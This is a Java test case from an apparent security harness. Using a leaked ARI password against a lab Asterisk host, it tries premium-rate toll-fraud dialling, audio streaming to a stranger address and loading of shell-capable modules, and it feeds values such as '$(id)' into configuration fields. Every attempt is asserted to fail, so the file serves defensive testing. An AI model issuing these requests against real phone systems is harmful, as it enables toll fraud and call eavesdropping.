package io.sandalphone.harness.attack.cases;

import com.fasterxml.jackson.databind.ObjectMapper;

import io.sandalphone.harness.attack.AttackCase;
import io.sandalphone.harness.attack.AttackLab;
import io.sandalphone.harness.attack.Rendering;
import io.sandalphone.harness.attack.SipSocket;
import io.sandalphone.harness.attack.Tries;
import io.sandalphone.harness.lab.AsteriskHost;
import io.sandalphone.harness.lab.LoopbackHttp;
import io.sandalphone.harness.lab.Poll;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/// Values nobody filled in, fences that fence nothing, and the ARI password in a stranger's hands: what
/// no route allows is not dialled, and no sound goes elsewhere.
final class AsteriskTakeOver implements AttackCase {
    private static final int TRUNK_PORT = 5060;

    /// Premium rate in North America; no route of the lab has it.
    private static final String FORBIDDEN = "19005550199";

    @Override
    public int number() {
        return 26;
    }

    @Override
    public String tried() {
        return "values unedited, networks as wide as the world; the ARI password used to dial";
    }

    @Override
    public void run(AttackLab lab, Tries tries) throws Exception {
        Path place = lab.newFolder("render");
        values(place, lab, tries);
        lab.stopController();
        try (SipSocket trunk =
                        SipSocket.answering(
                                lab.host().carrier(),
                                AsteriskHost.CARRIER_ADDRESS,
                                TRUNK_PORT,
                                SipSocket.refusing(486));
                SipSocket stranger =
                        SipSocket.open(lab.host().carrier(), AttackLab.STRANGER_ADDRESS, 0)) {
            // As production has it: some of what Asterisk would do, the firewall does not let it.
            lab.host().loadFirewall();
            ari(lab.host(), trunk, stranger, tries);
        } finally {
            lab.host().unloadFirewall();
        }
    }

    private static void values(Path place, AttackLab lab, Tries tries) throws IOException {
        Rendering good = Rendering.of(place, Map.of());
        tries.check("good values", good.code() == 0, good::toString);
        Map<String, String> example = Rendering.example();
        List<String> unedited =
                example.entrySet().stream()
                        .map(each -> each.getKey() + "=" + each.getValue())
                        .toList();
        Rendering asItIs = Rendering.of(place, unedited);
        tries.check(
                "values.example unedited",
                asItIs.code() == 2 && asItIs.files().isEmpty(),
                () -> "rendered: " + asItIs);
        for (Map.Entry<String, List<String>> each : wrong(example).entrySet()) {
            List<String> values = each.getValue();
            for (String value :
                    values.subList(0, Math.min(values.size(), lab.effort().of(6, 99)))) {
                Rendering said = Rendering.of(place, Map.of(each.getKey(), value));
                tries.check(
                        each.getKey() + "=" + value,
                        said.refuses(each.getKey()),
                        () -> "expected to be refused, " + said);
                tries.check(
                        "what is said of " + each.getKey() + "=" + value,
                        !each.getKey().matches("TRUNK_PASSWORD|ARI_SECRET")
                                || value.isEmpty()
                                || !said.text().contains(value),
                        () -> "the secret is shown");
            }
        }
        // What looks like configuration stays a password.
        for (String password :
                List.of(
                        "a;b",
                        "#include<x>",
                        "@ARI_SECRET@",
                        "$(id)",
                        "`id`",
                        "[general]",
                        "a=>b",
                        "\\n",
                        "x%y")) {
            Rendering said = Rendering.of(place, Map.of("TRUNK_PASSWORD", password));
            tries.check(
                    "TRUNK_PASSWORD=" + password,
                    said.code() == 2 || onceIn(said, password),
                    () -> "it is not in the configuration as it was given: " + said);
        }
    }

    private static boolean onceIn(Rendering said, String password) throws IOException {
        String escaped = password.replace(";", "\\;");
        long lines = 0;
        for (Path file : said.files()) {
            lines +=
                    java.nio.file.Files.readString(file)
                            .lines()
                            .filter(line -> line.equals("password = " + escaped))
                            .count();
        }
        return lines == 1;
    }

    private static Map<String, List<String>> wrong(Map<String, String> example) {
        Map<String, List<String>> wrong = new LinkedHashMap<>();
        List<String> anywhere =
                List.of(
                        "0.0.0.0/0",
                        "192.0.2.10",
                        "208.100.60.10 0.0.0.0/0",
                        "1.2.3.4/0",
                        "0.0.0.0/1 128.0.0.0/1",
                        "198.51.100.7",
                        "203.0.113.0/24",
                        "128.0.0.0/1",
                        "64.0.0.0/2",
                        "208.0.0.0/4",
                        "0.0.0.0",
                        "255.255.255.255",
                        "::/0",
                        "any",
                        "208.100.60.10/33",
                        "208.100.60",
                        "208.100.60.10,208.100.60.11");
        wrong.put("TRUNK_ADDRESSES", anywhere);
        if (example.containsKey("MEDIA_NETWORKS")) {
            wrong.put("MEDIA_NETWORKS", anywhere);
        }
        wrong.put(
                "TRUNK_PASSWORD",
                List.of(
                        "change-me",
                        "CHANGE-ME",
                        "changeme",
                        "change_me",
                        "change-me-change-me",
                        ""));
        wrong.put(
                "ARI_SECRET",
                List.of(
                        "change-me-change-me",
                        "CHANGE-ME-CHANGE-ME",
                        "changemechangeme",
                        "short",
                        "with a blank in it 12345"));
        wrong.put("TRUNK_ACCOUNT", List.of("123456_sandalphone", "", "a b", "x]"));
        wrong.put("ARI_USER", List.of("general", "", "a b", "x]"));
        wrong.put("SIP_BIND", List.of("0.0.0.0:99999", "0.0.0.0", ":5060", "0.0.0.0:0"));
        wrong.put("RTP_FIRST_PORT", List.of("19990", "0", "80", "x", "20000"));
        wrong.put("LONGEST_CALL_MINUTES", List.of("0", "-1", "99999", "1.5"));
        return wrong;
    }

    /// With the password, everything that could dial or send sound elsewhere is tried.
    private static void ari(AsteriskHost host, SipSocket trunk, SipSocket stranger, Tries tries)
            throws IOException, InterruptedException {
        String login =
                Base64.getEncoder()
                        .encodeToString(
                                (AsteriskHost.ARI_USER + ":" + AsteriskHost.ARI_SECRET)
                                        .getBytes(StandardCharsets.UTF_8));
        var http = new LoopbackHttp(host.vps(), 8088, Map.of("Authorization", "Basic " + login));
        List<String> answers = new ArrayList<>();
        for (String[] each : requests(stranger)) {
            int status = http.request(each[0], "/ari/" + each[1], each[2]).status();
            answers.add(each[1].split("\\?", 2)[0] + " " + status);
        }
        // What was started may take a moment to dial.
        settle(host);
        List<String> dialled =
                trunk.requests("INVITE").stream().map(SipSocket.Received::called).toList();
        tries.check(
                "dialling +" + FORBIDDEN + " in " + requests(stranger).size() + " ways",
                dialled.stream().noneMatch(number -> number.contains(FORBIDDEN)),
                () -> "the trunk was asked for " + dialled + "; " + answers);
        tries.check(
                "dialling another host",
                stranger.received().stream().noneMatch(each -> each.isRequest("INVITE")),
                () -> "a stranger got an INVITE");
        if (stranger.received().stream().anyMatch(each -> each.text().startsWith("\u0080"))) {
            // ExternalMedia goes where its owner wants it, which is what a controller needs.
            tries.note("ARI can still send sound to any host that the firewall lets through");
        }
        for (String module :
                List.of(
                        "app_system",
                        "app_originate",
                        "app_mixmonitor",
                        "func_shell",
                        "func_curl",
                        "func_env",
                        "app_voicemail",
                        "res_agi",
                        "app_chanspy",
                        "app_exec",
                        "res_ari_recordings",
                        "app_record",
                        "chan_iax2",
                        "pbx_spool")) {
            int status = http.request("POST", "/ari/asterisk/modules/" + module + ".so").status();
            tries.check(
                    "loading " + module,
                    status != 204 && status != 200,
                    () -> "answered " + status);
        }
        int dynamic =
                http.request(
                                "PUT",
                                "/ari/asterisk/config/dynamic/res_pjsip/endpoint/evil",
                                "{\"fields\":[{\"attribute\":\"context\",\"value\":\"inbound\"}]}")
                        .status();
        tries.check(
                "an endpoint of their own", dynamic / 100 != 2, () -> "made, answered " + dynamic);
    }

    private static void settle(AsteriskHost host) {
        long begin = System.nanoTime();
        Poll.until(
                Duration.ofSeconds(20),
                () ->
                        System.nanoTime() - begin > Duration.ofSeconds(6).toNanos()
                                || (host.channels().isEmpty()
                                        && System.nanoTime() - begin
                                                > Duration.ofSeconds(2).toNanos()),
                "the calls are over");
    }

    private static List<String[]> requests(SipSocket stranger) {
        String json = new ObjectMapper().createObjectNode().toString();
        String variables = "{\"variables\":{\"SP_CALLED\":\"+" + FORBIDDEN + "\"}}";
        List<String[]> requests = new ArrayList<>();
        String away = AttackLab.STRANGER_ADDRESS + ":" + stranger.local().getPort();
        for (String endpoint :
                List.of(
                        "PJSIP/%2B" + FORBIDDEN + "@voipms",
                        "PJSIP/" + FORBIDDEN + "@voipms",
                        "PJSIP/voipms/sip:%2B" + FORBIDDEN + "@" + AsteriskHost.CARRIER_ADDRESS,
                        "PJSIP/voipms/sip:x@" + away,
                        "Local/%2B" + FORBIDDEN + "@from-voipms",
                        "Local/%2B" + FORBIDDEN + "@inbound",
                        "Local/s@untranslated",
                        "Local/%2B" + FORBIDDEN + "@untranslated",
                        "Local/%2B" + FORBIDDEN + "@default",
                        "Local/%2B" + FORBIDDEN + "@dial",
                        "Local/%2B" + FORBIDDEN + "@outbound",
                        "SIP/%2B" + FORBIDDEN + "@" + AsteriskHost.CARRIER_ADDRESS,
                        "IAX2/" + AsteriskHost.CARRIER_ADDRESS + "/" + FORBIDDEN)) {
            requests.add(
                    new String[] {
                        "POST",
                        "channels?endpoint=" + endpoint + "&context=inbound&extension=s&priority=1",
                        variables
                    });
            requests.add(
                    new String[] {
                        "POST", "channels?endpoint=" + endpoint + "&app=stranger", variables
                    });
            requests.add(
                    new String[] {
                        "POST",
                        "channels/create?endpoint="
                                + endpoint
                                + "&app=stranger"
                                + "&channelId=evil-"
                                + requests.size(),
                        variables
                    });
            requests.add(
                    new String[] {
                        "POST", "channels/evil-" + (requests.size() - 1) + "/dial", json
                    });
        }
        requests.add(
                new String[] {
                    "POST",
                    "channels/externalMedia?app=stranger&format=ulaw&external_host=" + away,
                    json
                });
        requests.add(
                new String[] {
                    "POST",
                    "channels?endpoint=UnicastRTP/" + away + "/c(ulaw)&context=inbound&extension=s",
                    json
                });
        return requests;
    }
}
